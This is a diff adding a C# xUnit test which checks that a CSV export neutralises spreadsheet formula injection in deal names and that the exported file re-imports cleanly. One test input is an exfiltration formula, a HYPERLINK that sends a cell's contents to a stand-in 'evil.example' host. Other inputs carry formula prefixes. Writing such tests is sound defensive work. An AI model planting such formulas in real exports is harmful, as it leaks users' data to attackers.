@@ -148,4 +148,34 @@ public class ImportTests(AppFixture fixture) : IClassFixture<AppFixture>
         static IEnumerable<string> WithoutIds(string csv) => csv.Split('\n').Select(l => l.Contains(',', StringComparison.Ordinal) ? l[(l.IndexOf(',', StringComparison.Ordinal) + 1)..] : l);
         Assert.Equal(WithoutIds(exported.ToString()), WithoutIds(reexported.ToString()));
     }
+
+    [Fact]
+    public async Task Exported_names_cannot_run_as_spreadsheet_formulas_and_import_back_unchanged()
+    {
+        var (first, second) = (AppFixture.NewTenant(), AppFixture.NewTenant());
+        string[] names = ["=HYPERLINK(\"http://evil.example?\"&B2,\"x\")", "@SUM(A1:A9)", "+45 Telecom", "-minus Co", "'=already quoted", "Plain Co"];
+        foreach (var name in names)
+        {
+            (await _app.SayAsync($"deal new \"{name.Replace("\"", "'", StringComparison.Ordinal)}\" 10k", "u-ann", "Ann", first)).ShouldSucceed();
+        }
+
+        var stored = (await DealsAsync(first)).Select(d => d.Name).Order(StringComparer.Ordinal).ToArray();
+        var exported = new StringWriter(CultureInfo.InvariantCulture);
+        await _app.Service<DealImporter>().ExportAsync(first, exported, CancellationToken.None);
+
+        using var csv = new CsvHelper.CsvParser(new StringReader(exported.ToString()), CultureInfo.InvariantCulture);
+        var cells = new List<string>();
+        while (csv.Read())
+        {
+            cells.AddRange(csv.Record!);
+        }
+
+        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@');
+        Assert.Contains("'=already quoted".Insert(0, "'"), cells);
+
+        using var reader = new StringReader(exported.ToString());
+        var result = await _app.Service<DealImporter>().ImportAsync(second, reader, CsvMapping.SalesBot, false, TextWriter.Null, CancellationToken.None);
+        Assert.Empty(result.Errors);
+        Assert.Equal(stored, (await DealsAsync(second)).Select(d => d.Name).Order(StringComparer.Ordinal));
+    }
 }
